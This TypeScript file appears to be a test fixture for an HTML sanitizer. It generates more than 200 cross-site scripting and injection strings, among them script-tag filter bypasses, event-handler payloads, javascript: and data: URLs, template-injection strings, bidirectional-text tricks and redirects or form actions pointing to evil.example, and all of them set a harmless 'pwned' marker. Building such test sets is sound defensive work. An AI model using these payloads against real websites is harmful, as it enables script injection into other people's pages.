/** Texts that have run as scripts, or broken out of their place, somewhere: 200 and more of them. */

/** What a script that runs leaves behind; tests look for it. */
export const mark = "globalThis.pwned=1";

const scripts = [
  `<script>${mark}</script>`,
  `<ScRiPt >${mark}</sCrIpT>`,
  `<script src="data:text/javascript,${mark}"></script>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `</script><script>${mark}</script>`,
  `</textarea><script>${mark}</script>`,
  `</title><script>${mark}</script>`,
  `</style><script>${mark}</script>`,
  `</noscript><script>${mark}</script>`,
  `--><script>${mark}</script>`,
  `]]><script>${mark}</script>`,
  `<script\u000b>${mark}</script>`,
  `<script/x>${mark}</script>`,
  `\u003cscript\u003e${mark}\u003c/script\u003e`,
  `%3Cscript%3E${mark}%3C/script%3E`,
  `&lt;script&gt;${mark}&lt;/script&gt;`,
  `&#60;script&#62;${mark}&#60;/script&#62;`,
  `\uff1cscript\uff1e${mark}\uff1c/script\uff1e`,
];

const elements = [
  "img src=x",
  "svg",
  "svg/",
  "body",
  "iframe",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "details open",
  "marquee",
  "object data=x",
  "select autofocus",
  "textarea autofocus",
  "math",
  "x tabindex=1 autofocus",
  "a href=# style=position:fixed;inset:0",
];
const handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart"];
const quotes = ["", '"', "'", "`"];

const addresses = [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java\tscript:${mark}`,
  `java\nscript:${mark}`,
  `\u0001javascript:${mark}`,
  `javascript&colon;${mark}`,
  `javascript://example.org/%0a${mark}`,
  `data:text/html,<script>${mark}</script>`,
  `vbscript:${mark}`,
  `https://example.org/"onmouseover="${mark}`,
  `https://example.org/'onmouseover='${mark}`,
  `https://example.org/><script>${mark}</script>`,
  "https://user:pass@example.org/",
  "https://example.org@evil.example/",
  `https://javascript:${mark}@example.org`,
  "http://[::1",
  "//evil.example/x",
  "file:///etc/passwd",
  "https://example.org/\u202egnp.exe",
  `https://example.org/#<img src=x onerror=${mark}>`,
];

const templates = [
  "${x}",
  "{{x}}",
  "<%= x %>",
  "#{x}",
  "[[x]]",
  "{{constructor.constructor('x')()}}",
]
  .map((text) => text.replace("x", mark));

const directions = ["\u202e", "\u2066", "\u2067", "\u200f", "\u061c"].map((mark) =>
  `left ${mark}right`
);

/** All of them. */
export const hostileTexts: readonly string[] = [
  ...scripts,
  ...elements.flatMap((element) => handlers.map((name) => `<${element} ${name}=${mark}>`)),
  ...quotes.flatMap((quote) => handlers.map((name) => `${quote} ${name}=${quote}${mark}`)),
  ...quotes.map((quote) => `${quote}><img src=x onerror=${mark}>`),
  ...addresses,
  ...addresses.map((address) => `[link](${address})`),
  ...addresses.map((address) => `<a href="${address}">x</a>`),
  ...templates,
  ...directions,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${mark}">`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<template><script>${mark}</script></template>`,
  `@alice"><script>${mark}</script>`,
  `#tag"><script>${mark}</script>`,
  "\u0000<\u0000script>",
  "a\u0300".repeat(40),
];
